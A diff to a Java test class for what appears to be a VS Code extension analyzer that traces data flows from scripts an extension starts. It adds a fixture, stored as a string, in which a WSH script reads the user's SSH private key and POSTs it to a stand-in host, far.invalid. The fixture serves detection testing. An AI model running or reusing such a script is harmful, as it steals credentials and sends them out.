@@ -61,6 +61,26 @@ class StartedScriptsTest {
     }
 
     @Test
+    void aProgramOfNodeIsNotReadByItsStatements() {
+        String server = "const own = process.env;\nconst tools = 'lint ' + own;\nresolve(tools);\n";
+
+        List<Feature> features = features("cp.fork(context.asAbsolutePath('server.js'));", "server.js", server);
+
+        assertThat(flows(features)).isEmpty();
+    }
+
+    @Test
+    void aScriptOfAnotherHostIsReadByItsStatementsThoughItIsJavaScript() {
+        String script = "var shell = new ActiveXObject('WScript.Shell');\n"
+                + "var k = shell.Exec('cmd /c type %USERPROFILE%\\\\.ssh\\\\id_rsa').StdOut.ReadAll();\n"
+                + "var http = new ActiveXObject('MSXML2.XMLHTTP'); http.open('POST', 'https://far.invalid/k'); http.send(k);\n";
+
+        List<Feature> features = features("cp.spawn('wscript.exe', [context.asAbsolutePath('k.js')]);", "k.js", script);
+
+        assertThat(flows(features)).anyMatch(flow -> flow.from().equals("ssh-credentials"));
+    }
+
+    @Test
     void aScriptThatNothingStartsHasNoFlows() {
         List<Feature> features = features("fs.readFileSync(context.asAbsolutePath('tools/k.sh'));");
 
@@ -81,14 +101,18 @@ class StartedScriptsTest {
     }
 
     private static List<Feature> features(String activation) {
+        return features(activation, "tools/k.sh", SENDS);
+    }
+
+    private static List<Feature> features(String activation, String path, String script) {
         ExtensionPackage extension = ExtensionPackage.ofTexts(Map.of(
                 "package.json",
                 "{\"publisher\": \"acme\", \"name\": \"tools\", \"main\": \"main.js\"}",
                 "main.js",
                 "const vscode = require('vscode'), cp = require('child_process'), path = require('path'), fs = require('fs');\n"
                         + "exports.activate = context => { " + activation + " };",
-                "tools/k.sh",
-                SENDS));
+                path,
+                script));
         return new PackageAnalyzer(PatternSet.empty(), Catalogue.shipped(), List.of())
                 .analyze(extension, Registry.UNKNOWN)
                 .features();
